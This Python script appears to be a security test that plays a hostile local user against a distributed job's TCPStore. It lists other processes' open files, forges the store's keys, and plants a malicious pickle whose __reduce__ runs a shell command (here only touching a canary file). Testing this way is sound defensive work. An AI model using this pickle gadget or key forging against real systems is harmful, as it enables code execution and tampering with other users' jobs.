"""Another user of the machine, who knows the port of the store of a job, and forges all of it."""

from __future__ import annotations

import os
import pickle
import socket
import sys
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

NOBODY = 65534


class Attack:
    """A pickle that runs a command where it is read."""

    def __init__(self, canary: str):
        self.canary = canary

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self.canary}",)


def main(port: int, canary: str, pids: list[int]) -> list[str]:
    """What succeeded."""
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        opened = [f"opened {file}" for pid in pids for file in _files(pid)]
    else:
        opened = []
    store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=5))
    keys = store.list_keys()
    ours = [key for key in keys if "fpipe" in key and _is_value(store, key)]
    poison = [pickle.dumps(Attack(canary)), b"", b"\xff" * 1000, b't"' + b"\xff" * 8]
    coming = [
        f"{key.rpartition('/round/')[0]}/round/{n}/1"
        for key in ours
        if "/round/" in key
        for n in range(30)
    ]
    for number, key in enumerate([*ours, *coming, *coming[::-1]]):
        store.set(key, poison[0 if number >= len(ours) else number % len(poison)])
    with suppress(OSError), socket.socket() as raw:
        raw.connect(("127.0.0.1", port))
        raw.sendall(pickle.dumps(Attack(canary)) * 1000)
    if not coming:
        opened.append("no round was found: the test is out of date")
    return opened


def _is_value(store: dist.TCPStore, key: str) -> bool:
    return not store.get(key).isdigit()  # counters are not read by value


def _files(pid: int) -> list[str]:
    with suppress(PermissionError):
        return [str(file) for file in Path(f"/proc/{pid}/fd").iterdir()]
    return []


if __name__ == "__main__":
    port, canary, *pids = sys.argv[1:]
    print("\n".join(main(int(port), canary, list(map(int, pids)))))
